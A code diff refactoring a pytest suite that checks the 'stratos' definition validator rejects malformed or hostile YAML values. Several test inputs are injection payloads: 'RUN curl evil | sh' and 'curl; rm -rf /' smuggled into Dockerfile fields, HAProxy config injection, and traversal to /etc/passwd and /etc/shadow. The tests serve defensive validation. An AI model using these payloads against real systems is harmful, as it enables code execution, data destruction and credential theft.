@@ -8,7 +8,6 @@ every case too: exit code 1, the problem printed, no traceback.
 
 from __future__ import annotations
 
-import copy
 import os
 from collections.abc import Callable
 from pathlib import Path
@@ -16,6 +15,7 @@ from typing import Any
 
 import pytest
 import yaml
+from conftest import with_value
 
 from stratos import images
 from stratos.cli import main
@@ -117,16 +117,8 @@ def at(kind: str, dotted: str, value: Any) -> Callable[[Path], Path]:
     """Set ``dotted`` (``a.b[0].c``) in the document of ``kind`` to ``value``."""
 
     def mutate(root: Path) -> Path:
-        docs = copy.deepcopy(DOCS)
-        target: Any = docs[KIND_INDEX[kind]]
-        parts = dotted.replace("[", ".[").split(".")
-        for part in parts[:-1]:
-            target = target[int(part[1:-1])] if part.startswith("[") else target[part]
-        last = parts[-1]
-        if last.startswith("["):
-            target[int(last[1:-1])] = value
-        else:
-            target[last] = value
+        docs = list(DOCS)
+        docs[KIND_INDEX[kind]] = with_value(DOCS[KIND_INDEX[kind]], dotted, value)
         return write_set(root, docs)
 
     return mutate
@@ -176,436 +168,290 @@ C, NP, DP, AP, LB, APP = (
 SUB = f"{APP}.subscriptions[0]"
 FINITE = "must be a finite number"
 
+
+def case_at(case: str, kind: str, dotted: str, value: Any, rule: str, path: str | None = None) -> Case:
+    """A case that sets one field: the problem is expected at that field unless ``path`` says where."""
+    return (case, at(kind, dotted, value), path or f"{PATHS[kind]}.{dotted}", rule)
+
+
+PATHS = {
+    "Cartridge": C,
+    "NetworkPartition": NP,
+    "DeploymentPolicy": DP,
+    "AutoscalingPolicy": AP,
+    "LbCluster": LB,
+    "Application": APP,
+}
+Case = tuple[str, Callable[[Path], Path], str, str]
+
 # (id, make the file, expected path, expected rule fragment)
-CASES: list[tuple[str, Callable[[Path], Path], str, str]] = [
+CASES: list[Case] = [
     # ---- numbers: finite, bounded, never from strings or booleans
-    (
-        "hc-timeout-inf",
-        at("Cartridge", "health_check.timeout", float("inf")),
-        f"{C}.health_check.timeout",
-        FINITE,
-    ),
-    (
-        "hc-interval-nan",
-        at("Cartridge", "health_check.interval", float("nan")),
-        f"{C}.health_check.interval",
-        FINITE,
-    ),
-    (
-        "hc-timeout-huge",
-        at("Cartridge", "health_check.timeout", 1e9),
-        f"{C}.health_check.timeout",
-        "must be <= 600",
-    ),
-    (
-        "hc-retries-huge",
-        at("Cartridge", "health_check.retries", 10**6),
-        f"{C}.health_check.retries",
-        "must be <= 100",
-    ),
-    (
+    case_at("hc-timeout-inf", "Cartridge", "health_check.timeout", float("inf"), FINITE),
+    case_at("hc-interval-nan", "Cartridge", "health_check.interval", float("nan"), FINITE),
+    case_at("hc-timeout-huge", "Cartridge", "health_check.timeout", 1e9, "must be <= 600"),
+    case_at("hc-retries-huge", "Cartridge", "health_check.retries", 10**6, "must be <= 100"),
+    case_at(
         "artifact-health-timeout-inf",
-        at("Application", "subscriptions[0].artifact.health_timeout", float("inf")),
-        f"{SUB}.artifact.health_timeout",
+        "Application",
+        "subscriptions[0].artifact.health_timeout",
+        float("inf"),
         FINITE,
     ),
-    (
+    case_at(
         "artifact-poll-huge",
-        at("Application", "subscriptions[0].artifact.poll_interval", 1e12),
-        f"{SUB}.artifact.poll_interval",
+        "Application",
+        "subscriptions[0].artifact.poll_interval",
+        1e12,
         "must be <= 86400",
     ),
-    (
+    case_at(
         "artifact-keep-huge",
-        at("Application", "subscriptions[0].artifact.keep_releases", 10**9),
-        f"{SUB}.artifact.keep_releases",
+        "Application",
+        "subscriptions[0].artifact.keep_releases",
+        10**9,
         "must be <= 100",
     ),
-    ("cpus-inf", at("Cartridge", "limits.cpus", float("inf")), f"{C}.limits.cpus", FINITE),
-    ("cpus-huge", at("Cartridge", "limits.cpus", 1e6), f"{C}.limits.cpus", "must be <= 1024"),
-    ("memory-zero", at("Cartridge", "limits.memory", "0m"), f"{C}.limits.memory", "between 6m"),
-    ("memory-newline", at("Cartridge", "limits.memory", "256m\n"), f"{C}.limits.memory", "must be a size"),
-    (
-        "threshold-inf",
-        at("AutoscalingPolicy", "thresholds.requests_in_flight", float("inf")),
-        f"{AP}.thresholds.requests_in_flight",
-        FINITE,
+    case_at("cpus-inf", "Cartridge", "limits.cpus", float("inf"), FINITE),
+    case_at("cpus-huge", "Cartridge", "limits.cpus", 1e6, "must be <= 1024"),
+    case_at("memory-zero", "Cartridge", "limits.memory", "0m", "between 6m"),
+    case_at("memory-newline", "Cartridge", "limits.memory", "256m\n", "must be a size"),
+    case_at("threshold-inf", "AutoscalingPolicy", "thresholds.requests_in_flight", float("inf"), FINITE),
+    case_at("threshold-percent-nan", "AutoscalingPolicy", "thresholds.load_average", float("nan"), FINITE),
+    case_at(
+        "evaluation-interval-inf", "AutoscalingPolicy", "behaviour.evaluation_interval", float("inf"), FINITE
     ),
-    (
-        "threshold-percent-nan",
-        at("AutoscalingPolicy", "thresholds.load_average", float("nan")),
-        f"{AP}.thresholds.load_average",
-        FINITE,
+    case_at(
+        "stabilisation-huge", "AutoscalingPolicy", "behaviour.scale_down_stabilisation", 1e10, "<= 86400"
     ),
-    (
-        "evaluation-interval-inf",
-        at("AutoscalingPolicy", "behaviour.evaluation_interval", float("inf")),
-        f"{AP}.behaviour.evaluation_interval",
-        FINITE,
+    case_at("tolerance-nan", "AutoscalingPolicy", "behaviour.tolerance", float("nan"), FINITE),
+    case_at("max-step-huge", "AutoscalingPolicy", "behaviour.max_step", 10**7, "<= 1000"),
+    case_at(
+        "partition-max-huge", "DeploymentPolicy", "network_partitions[0].partitions[0].max", 10**9, "<= 1000"
     ),
-    (
-        "stabilisation-huge",
-        at("AutoscalingPolicy", "behaviour.scale_down_stabilisation", 1e10),
-        f"{AP}.behaviour.scale_down_stabilisation",
-        "<= 86400",
-    ),
-    (
-        "tolerance-nan",
-        at("AutoscalingPolicy", "behaviour.tolerance", float("nan")),
-        f"{AP}.behaviour.tolerance",
-        FINITE,
-    ),
-    (
-        "max-step-huge",
-        at("AutoscalingPolicy", "behaviour.max_step", 10**7),
-        f"{AP}.behaviour.max_step",
-        "<= 1000",
-    ),
-    (
-        "partition-max-huge",
-        at("DeploymentPolicy", "network_partitions[0].partitions[0].max", 10**9),
-        f"{DP}.network_partitions[0].partitions[0].max",
-        "<= 1000",
-    ),
-    (
-        "lb-interval-inf",
-        at("LbCluster", "health_check.interval", float("inf")),
-        f"{LB}.health_check.interval",
-        FINITE,
-    ),
-    (
-        "lb-interval-tiny",
-        at("LbCluster", "health_check.interval", 1e-9),
-        f"{LB}.health_check.interval",
-        ">= 0.01",
-    ),
-    ("lb-fall-huge", at("LbCluster", "health_check.fall", 10**6), f"{LB}.health_check.fall", "<= 100"),
-    ("lb-retries-huge", at("LbCluster", "retries", 10**6), f"{LB}.retries", "<= 100"),
-    (
-        "openstack-hosts-huge",
-        at("NetworkPartition", "openstack.hosts", 10**6),
-        f"{NP}.openstack.hosts",
-        "<= 100",
-    ),
-    (
-        "min-quoted",
-        at("Application", "subscriptions[0].min", "1"),
-        f"{SUB}.min",
-        "must be a number, not a string",
-    ),
-    (
-        "max-boolean",
-        at("Application", "subscriptions[0].max", True),
-        f"{SUB}.max",
-        "must be a number, not a boolean",
-    ),
-    (
-        "port-quoted",
-        at("Cartridge", "ports[0].port", "80"),
-        f"{C}.ports[0].port",
-        "must be a number, not a string",
-    ),
-    (
-        "timeout-quoted",
-        at("Cartridge", "health_check.timeout", "3"),
-        f"{C}.health_check.timeout",
-        "not a string",
-    ),
-    ("tcp-yes", at("Cartridge", "health_check.tcp", "yes"), f"{C}.health_check.tcp", "must be true or false"),
-    ("scales-one", at("Cartridge", "scales", 1), f"{C}.scales", "must be true or false"),
-    (
-        "sticky-enabled-string",
-        at("LbCluster", "sticky.enabled", "true"),
-        f"{LB}.sticky.enabled",
-        "must be true or false",
-    ),
-    (
+    case_at("lb-interval-inf", "LbCluster", "health_check.interval", float("inf"), FINITE),
+    case_at("lb-interval-tiny", "LbCluster", "health_check.interval", 1e-9, ">= 0.01"),
+    case_at("lb-fall-huge", "LbCluster", "health_check.fall", 10**6, "<= 100"),
+    case_at("lb-retries-huge", "LbCluster", "retries", 10**6, "<= 100"),
+    case_at("openstack-hosts-huge", "NetworkPartition", "openstack.hosts", 10**6, "<= 100"),
+    case_at("min-quoted", "Application", "subscriptions[0].min", "1", "must be a number, not a string"),
+    case_at("max-boolean", "Application", "subscriptions[0].max", True, "must be a number, not a boolean"),
+    case_at("port-quoted", "Cartridge", "ports[0].port", "80", "must be a number, not a string"),
+    case_at("timeout-quoted", "Cartridge", "health_check.timeout", "3", "not a string"),
+    case_at("tcp-yes", "Cartridge", "health_check.tcp", "yes", "must be true or false"),
+    case_at("scales-one", "Cartridge", "scales", 1, "must be true or false"),
+    case_at("sticky-enabled-string", "LbCluster", "sticky.enabled", "true", "must be true or false"),
+    case_at(
         "keep-volume-string",
-        at("Cartridge", "persistence.volumes[0].keep_on_termination", "no"),
-        f"{C}.persistence.volumes[0].keep_on_termination",
+        "Cartridge",
+        "persistence.volumes[0].keep_on_termination",
+        "no",
         "must be true or false",
     ),
     # ---- values that reach haproxy.cfg
-    (
+    case_at(
         "hc-http-injects-listen",
-        at("Cartridge", "health_check.http", "/h\nlisten pwn\n    bind :9999\n    stats admin if TRUE"),
-        f"{C}.health_check.http",
+        "Cartridge",
+        "health_check.http",
+        "/h\nlisten pwn\n    bind :9999\n    stats admin if TRUE",
         "must be a URL path",
     ),
-    (
-        "hc-http-comment",
-        at("Cartridge", "health_check.http", "/h #x"),
-        f"{C}.health_check.http",
-        "must be a URL path",
+    case_at("hc-http-comment", "Cartridge", "health_check.http", "/h #x", "must be a URL path"),
+    case_at("hc-http-quote", "Cartridge", "health_check.http", "/h'x", "must be a URL path"),
+    case_at(
+        "sticky-cookie-injects", "LbCluster", "sticky.cookie", "SID\nlisten pwn", "must be a cookie name"
     ),
-    (
-        "hc-http-quote",
-        at("Cartridge", "health_check.http", "/h'x"),
-        f"{C}.health_check.http",
-        "must be a URL path",
-    ),
-    (
-        "sticky-cookie-injects",
-        at("LbCluster", "sticky.cookie", "SID\nlisten pwn"),
-        f"{LB}.sticky.cookie",
-        "must be a cookie name",
-    ),
-    (
-        "sticky-cookie-space",
-        at("LbCluster", "sticky.cookie", "SID insert"),
-        f"{LB}.sticky.cookie",
-        "must be a cookie name",
-    ),
+    case_at("sticky-cookie-space", "LbCluster", "sticky.cookie", "SID insert", "must be a cookie name"),
     # ---- values that reach a Dockerfile, env or link file, labels
-    (
-        "version-injects-run",
-        at("Cartridge", "version", "1.0\nRUN curl evil | sh"),
-        f"{C}.version",
-        "must be a Docker tag",
-    ),
-    ("version-slash", at("Cartridge", "version", "1/2"), f"{C}.version", "must be a Docker tag"),
-    (
+    case_at("version-injects-run", "Cartridge", "version", "1.0\nRUN curl evil | sh", "must be a Docker tag"),
+    case_at("version-slash", "Cartridge", "version", "1/2", "must be a Docker tag"),
+    case_at(
         "workdir-injects-run",
-        at("Cartridge", "image.build.workdir", "/app\nRUN id"),
-        f"{C}.image.build.workdir",
+        "Cartridge",
+        "image.build.workdir",
+        "/app\nRUN id",
         "control characters (newline)",
     ),
-    (
-        "workdir-relative",
-        at("Cartridge", "image.build.workdir", "app"),
-        f"{C}.image.build.workdir",
-        "absolute path",
-    ),
-    (
+    case_at("workdir-relative", "Cartridge", "image.build.workdir", "app", "absolute path"),
+    case_at(
         "build-env-newline",
-        at("Cartridge", "image.build.env", {"A": "1\nRUN id"}),
-        f"{C}.image.build.env.A",
+        "Cartridge",
+        "image.build.env",
+        {"A": "1\nRUN id"},
         "control characters",
+        path=f"{C}.image.build.env.A",
     ),
-    (
+    case_at(
         "build-env-key",
-        at("Cartridge", "image.build.env", {"A B": "1"}),
-        f"{C}.image.build.env.A B.[key]",
+        "Cartridge",
+        "image.build.env",
+        {"A B": "1"},
         "variable name",
+        path=f"{C}.image.build.env.A B.[key]",
     ),
-    (
+    case_at(
         "environment-escape",
-        at("Cartridge", "environment", {"E": "\x1b[31mred"}),
-        f"{C}.environment.E",
+        "Cartridge",
+        "environment",
+        {"E": "\x1b[31mred"},
         "control characters (U+001B)",
+        path=f"{C}.environment.E",
     ),
-    (
+    case_at(
         "subscription-env-newline",
-        at("Application", "subscriptions[0].environment", {"M": "a\nB=2"}),
-        f"{SUB}.environment.M",
+        "Application",
+        "subscriptions[0].environment",
+        {"M": "a\nB=2"},
         "control characters (newline)",
+        path=f"{SUB}.environment.M",
     ),
-    (
+    case_at(
         "subscription-env-key",
-        at("Application", "subscriptions[0].environment", {"1X": "a"}),
-        f"{SUB}.environment.1X.[key]",
+        "Application",
+        "subscriptions[0].environment",
+        {"1X": "a"},
         "variable name",
+        path=f"{SUB}.environment.1X.[key]",
     ),
-    (
+    case_at(
         "exports-newline",
-        at("Cartridge", "exports", {"X": "a\nEVIL=1"}),
-        f"{C}.exports.X",
+        "Cartridge",
+        "exports",
+        {"X": "a\nEVIL=1"},
         "control characters",
+        path=f"{C}.exports.X",
     ),
-    (
-        "file-path-newline",
-        at("Cartridge", "image.build.files[0].path", "/x\nRUN id"),
-        f"{C}.image.build.files[0].path",
-        "control characters",
+    case_at(
+        "file-path-newline", "Cartridge", "image.build.files[0].path", "/x\nRUN id", "control characters"
     ),
-    (
-        "file-path-dir",
-        at("Cartridge", "image.build.files[0].path", "/usr/local/bin/"),
-        f"{C}.image.build.files[0].path",
-        "not ending with '/'",
+    case_at(
+        "file-path-dir", "Cartridge", "image.build.files[0].path", "/usr/local/bin/", "not ending with '/'"
     ),
-    (
-        "file-path-dotdot",
-        at("Cartridge", "image.build.files[0].path", "/a/../etc/passwd"),
-        f"{C}.image.build.files[0].path",
-        "'..'",
-    ),
-    (
-        "file-mode",
-        at("Cartridge", "image.build.files[0].mode", "0999"),
-        f"{C}.image.build.files[0].mode",
-        "must be octal permission bits",
-    ),
-    (
+    case_at("file-path-dotdot", "Cartridge", "image.build.files[0].path", "/a/../etc/passwd", "'..'"),
+    case_at("file-mode", "Cartridge", "image.build.files[0].mode", "0999", "must be octal permission bits"),
+    case_at(
         "entrypoint-newline",
-        at("Cartridge", "image.build.entrypoint", ["/bin/sh\n"]),
-        f"{C}.image.build.entrypoint[0]",
+        "Cartridge",
+        "image.build.entrypoint",
+        ["/bin/sh\n"],
         "control characters",
+        path=f"{C}.image.build.entrypoint[0]",
     ),
-    (
+    case_at(
         "package-shell",
-        at("Cartridge", "image.build.packages", ["curl; rm -rf /"]),
-        f"{C}.image.build.packages[0]",
+        "Cartridge",
+        "image.build.packages",
+        ["curl; rm -rf /"],
         "Debian package name",
+        path=f"{C}.image.build.packages[0]",
     ),
-    (
+    case_at(
         "package-option",
-        at("Cartridge", "image.build.packages", ["-oAPT::x=1"]),
-        f"{C}.image.build.packages[0]",
+        "Cartridge",
+        "image.build.packages",
+        ["-oAPT::x=1"],
         "Debian package name",
+        path=f"{C}.image.build.packages[0]",
     ),
-    ("run-empty", at("Cartridge", "image.build.run", ["  "]), f"{C}.image.build.run[0]", "must not be empty"),
-    (
+    case_at(
+        "run-empty",
+        "Cartridge",
+        "image.build.run",
+        ["  "],
+        "must not be empty",
+        path=f"{C}.image.build.run[0]",
+    ),
+    case_at(
         "run-escape",
-        at("Cartridge", "image.build.run", ["echo \x1b[2J"]),
-        f"{C}.image.build.run[0]",
+        "Cartridge",
+        "image.build.run",
+        ["echo \x1b[2J"],
         "control characters",
+        path=f"{C}.image.build.run[0]",
     ),
-    (
-        "display-name-newline",
-        at("Cartridge", "display_name", "C\nD"),
-        f"{C}.display_name",
-        "control characters",
-    ),
-    (
-        "description-nul",
-        at("Cartridge", "description", "a\x00b"),
-        f"{C}.description",
-        "control characters (U+0000)",
-    ),
+    case_at("display-name-newline", "Cartridge", "display_name", "C\nD", "control characters"),
+    case_at("description-nul", "Cartridge", "description", "a\x00b", "control characters (U+0000)"),
     ("name-trailing-newline", at("Cartridge", "name", "c\n"), "cartridges/?.name", "DNS label"),
-    (
-        "alias-trailing-newline",
-        at("Application", "subscriptions[0].alias", "web\n"),
-        f"{SUB}.alias",
-        "DNS label",
-    ),
-    (
-        "zone-space",
-        at("NetworkPartition", "partitions[0].zone", "a b"),
-        f"{NP}.partitions[0].zone",
-        "must be a name",
-    ),
-    (
-        "region-newline",
-        at("NetworkPartition", "partitions[0].region", "r\n"),
-        f"{NP}.partitions[0].region",
-        "must be a name",
-    ),
-    (
+    case_at("alias-trailing-newline", "Application", "subscriptions[0].alias", "web\n", "DNS label"),
+    case_at("zone-space", "NetworkPartition", "partitions[0].zone", "a b", "must be a name"),
+    case_at("region-newline", "NetworkPartition", "partitions[0].region", "r\n", "must be a name"),
+    case_at(
         "endpoint-newline",
-        at("NetworkPartition", "partitions[0].endpoint", "unix:///var/run/docker.sock\n"),
-        f"{NP}.partitions[0].endpoint",
+        "NetworkPartition",
+        "partitions[0].endpoint",
+        "unix:///var/run/docker.sock\n",
         "Docker endpoint",
     ),
-    (
+    case_at(
         "endpoint-space",
-        at("NetworkPartition", "partitions[0].endpoint", "tcp://host:2375 -v"),
-        f"{NP}.partitions[0].endpoint",
+        "NetworkPartition",
+        "partitions[0].endpoint",
+        "tcp://host:2375 -v",
         "Docker endpoint",
     ),
-    (
-        "openstack-flavor",
-        at("NetworkPartition", "openstack.flavor", "m1 small\n"),
-        f"{NP}.openstack.flavor",
-        "must be a name",
-    ),
+    case_at("openstack-flavor", "NetworkPartition", "openstack.flavor", "m1 small\n", "must be a name"),
     # ---- IP addresses and networks
-    ("bind-address-bad", at("LbCluster", "bind_address", "999.1.1.1"), f"{LB}.bind_address", "IP address"),
-    ("bind-address-name", at("LbCluster", "bind_address", "localhost"), f"{LB}.bind_address", "IP address"),
-    (
-        "stats-bind-injects",
-        at("LbCluster", "stats.bind", "127.0.0.1\nlisten x"),
-        f"{LB}.stats.bind",
-        "IP address",
-    ),
-    (
-        "subnet-integer",
-        at("NetworkPartition", "network.subnet", 5),
-        f"{NP}.network.subnet",
-        "written as a string",
-    ),
-    (
-        "subnet-no-prefix",
-        at("NetworkPartition", "network.subnet", "10.10.0.0"),
-        f"{NP}.network.subnet",
-        "prefix length",
-    ),
-    (
-        "subnet-loopback",
-        at("NetworkPartition", "network.subnet", "127.0.0.0/8"),
-        f"{NP}.network.subnet",
-        "not loopback",
-    ),
-    (
-        "subnet-tiny",
-        at("NetworkPartition", "network.subnet", "10.0.0.0/31"),
-        f"{NP}.network.subnet",
-        "/8 and /29",
-    ),
-    (
-        "admin-cidr-bad",
-        at("NetworkPartition", "openstack.admin_cidr", "0.0.0.0/33"),
-        f"{NP}.openstack.admin_cidr",
-        "IP network",
-    ),
-    (
-        "admin-cidr-no-prefix",
-        at("NetworkPartition", "openstack.admin_cidr", "10.0.0.0"),
-        f"{NP}.openstack.admin_cidr",
-        "prefix length",
-    ),
+    case_at("bind-address-bad", "LbCluster", "bind_address", "999.1.1.1", "IP address"),
+    case_at("bind-address-name", "LbCluster", "bind_address", "localhost", "IP address"),
+    case_at("stats-bind-injects", "LbCluster", "stats.bind", "127.0.0.1\nlisten x", "IP address"),
+    case_at("subnet-integer", "NetworkPartition", "network.subnet", 5, "written as a string"),
+    case_at("subnet-no-prefix", "NetworkPartition", "network.subnet", "10.10.0.0", "prefix length"),
+    case_at("subnet-loopback", "NetworkPartition", "network.subnet", "127.0.0.0/8", "not loopback"),
+    case_at("subnet-tiny", "NetworkPartition", "network.subnet", "10.0.0.0/31", "/8 and /29"),
+    case_at("admin-cidr-bad", "NetworkPartition", "openstack.admin_cidr", "0.0.0.0/33", "IP network"),
+    case_at("admin-cidr-no-prefix", "NetworkPartition", "openstack.admin_cidr", "10.0.0.0", "prefix length"),
     # ---- image references (distribution/reference grammar)
-    (
+    case_at(
         "ref-uppercase",
-        at("Cartridge", "image", {"ref": "Debian:bookworm"}),
-        f"{C}.image.ref",
+        "Cartridge",
+        "image",
+        {"ref": "Debian:bookworm"},
         "Docker image reference",
+        path=f"{C}.image.ref",
     ),
-    (
+    case_at(
         "ref-space",
-        at("Cartridge", "image", {"ref": "debian:book worm"}),
-        f"{C}.image.ref",
+        "Cartridge",
+        "image",
+        {"ref": "debian:book worm"},
         "Docker image reference",
+        path=f"{C}.image.ref",
     ),
-    (
+    case_at(
         "ref-option",
-        at("Cartridge", "image", {"ref": "--privileged"}),
-        f"{C}.image.ref",
+        "Cartridge",
+        "image",
+        {"ref": "--privileged"},
         "Docker image reference",
+        path=f"{C}.image.ref",
     ),
-    ("ref-two-tags", at("Cartridge", "image", {"ref": "a:b:c"}), f"{C}.image.ref", "Docker image reference"),
-    (
+    case_at(
+        "ref-two-tags",
+        "Cartridge",
+        "image",
+        {"ref": "a:b:c"},
+        "Docker image reference",
+        path=f"{C}.image.ref",
+    ),
+    case_at(
         "ref-newline",
-        at("Cartridge", "image", {"ref": "debian\n"}),
-        f"{C}.image.ref",
+        "Cartridge",
+        "image",
+        {"ref": "debian\n"},
         "Docker image reference",
+        path=f"{C}.image.ref",
     ),
-    (
-        "base-bad",
-        at("Cartridge", "image.build.base", "debian:-x"),
-        f"{C}.image.build.base",
-        "Docker image reference",
-    ),
-    (
-        "tag-bad",
-        at("Cartridge", "image.build.tag", "x@sha256:zz"),
-        f"{C}.image.build.tag",
-        "Docker image reference",
-    ),
+    case_at("base-bad", "Cartridge", "image.build.base", "debian:-x", "Docker image reference"),
+    case_at("tag-bad", "Cartridge", "image.build.tag", "x@sha256:zz", "Docker image reference"),
     # ---- image file sources: inside the definition's directory
-    (
+    case_at(
         "src-absolute",
-        at("Cartridge", "image.build.files[0].src", "/etc/shadow"),
-        f"{C}.image.build.files[0].src",
+        "Cartridge",
+        "image.build.files[0].src",
+        "/etc/shadow",
         "must stay inside the definition's directory",
     ),
-    (
-        "src-dotdot",
-        at("Cartridge", "image.build.files[0].src", "../../etc/passwd"),
-        f"{C}.image.build.files[0].src",
-        "no '..'",
-    ),
+    case_at("src-dotdot", "Cartridge", "image.build.files[0].src", "../../etc/passwd", "no '..'"),
     (
         "src-symlink-out",
         symlinked_source,
@@ -618,37 +464,18 @@ CASES: list[tuple[str, Callable[[Path], Path], str, str]] = [
         f"{C}.image.build.files[0].src",
         "must stay inside the definition's directory",
     ),
-    (
-        "src-missing",
-        at("Cartridge", "image.build.files[0].src", "files/nope.sh"),
-        f"{C}.image.build.files[0].src",
-        "existing regular file",
-    ),
-    (
-        "src-directory",
-        at("Cartridge", "image.build.files[0].src", "files"),
-        f"{C}.image.build.files[0].src",
-        "existing regular file",
-    ),
-    (
-        "mount-path-colon",
-        at("Cartridge", "persistence.volumes[0].mount_path", "/data:rw"),
-        f"{C}.persistence.volumes[0].mount_path",
-        "':' or ','",
-    ),
+    case_at("src-missing", "Cartridge", "image.build.files[0].src", "files/nope.sh", "existing regular file"),
+    case_at("src-directory", "Cartridge", "image.build.files[0].src", "files", "existing regular file"),
+    case_at("mount-path-colon", "Cartridge", "persistence.volumes[0].mount_path", "/data:rw", "':' or ','"),
     # ---- sizes
-    (
+    case_at(
         "listeners-too-many",
-        at("LbCluster", "listeners", [{"proxy_port": 1000 + i, "port": 80} for i in range(65)]),
-        f"{LB}.listeners",
+        "LbCluster",
+        "listeners",
+        [{"proxy_port": 1000 + i, "port": 80} for i in range(65)],
         "at most 64 item(s)",
     ),
-    (
-        "description-too-long",
-        at("Cartridge", "description", "x" * 70000),
-        f"{C}.description",
-        "at most 65536 characters",
-    ),
+    case_at("description-too-long", "Cartridge", "description", "x" * 70000, "at most 65536 characters"),
     # ---- the file itself
     ("alias-bomb", raw(ALIAS_BOMB), "line 2", "aliases are not allowed in definitions"),
     ("alias-small", raw("kind: &k Cartridge\nname: *k\n"), "line 2", "aliases are not allowed"),
